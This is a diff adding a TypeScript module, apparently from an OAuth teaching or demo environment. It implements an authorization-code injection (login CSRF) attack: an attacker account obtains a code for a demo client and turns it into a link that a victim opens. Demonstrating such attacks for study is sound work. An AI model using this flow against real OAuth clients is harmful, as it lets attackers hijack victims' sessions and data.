@@ -1,0 +1,46 @@
+import type { ControlApi } from '#client/control-api/control-api.ts';
+import { FormState } from '#client/control-api/form-state.svelte.ts';
+import { ControlError } from '#client/control-api/control-error.ts';
+import { characterViewer } from '#client/demo-clients.ts';
+
+/** The account of the attacker. */
+export const attacker = 'player-three';
+
+/** An attack on the sign-in of a client: the attacker gets a code, and makes a link of it that a victim opens. */
+export class Attack {
+	/** The client that is attacked. */
+	clientId = $state('');
+	redirectUri = $state('');
+	/** Redirects the victim's browser to the client with the latest code; undefined: there is none yet. */
+	link: string | undefined = $state.raw();
+	readonly creation = new FormState();
+	readonly #api: ControlApi;
+
+	constructor(api: ControlApi) {
+		this.#api = api;
+		const { client_id, redirect_uri } = characterViewer(api.baseUrl);
+		this.clientId = client_id;
+		this.redirectUri = redirect_uri;
+	}
+
+	/** Gets a code for the attacker, who allows the client access in a browser of their own. */
+	async createLink(): Promise<void> {
+		await this.creation.run(async () => {
+			this.link = undefined;
+			const [client_id, redirect_uri] = [this.clientId.trim(), this.redirectUri.trim()];
+			const asked = { response_type: 'code', client_id, redirect_uri, scope: 'character_read location_read' };
+			const query = new URLSearchParams(asked).toString();
+			const { location, title } = await this.#api.request('POST /control/authorizations', {
+				body: { username: attacker, query }
+			});
+			const code = location === undefined ? null : new URL(location).searchParams.get('code');
+			if (code === null)
+				throw new ControlError(
+					'invalid_request',
+					`The service issued no code. Its page is titled: ${title ?? 'none'}.`,
+					400
+				);
+			this.link = this.#api.url('GET /control/authorization-response', { query: { client_id, redirect_uri, code } });
+		});
+	}
+}
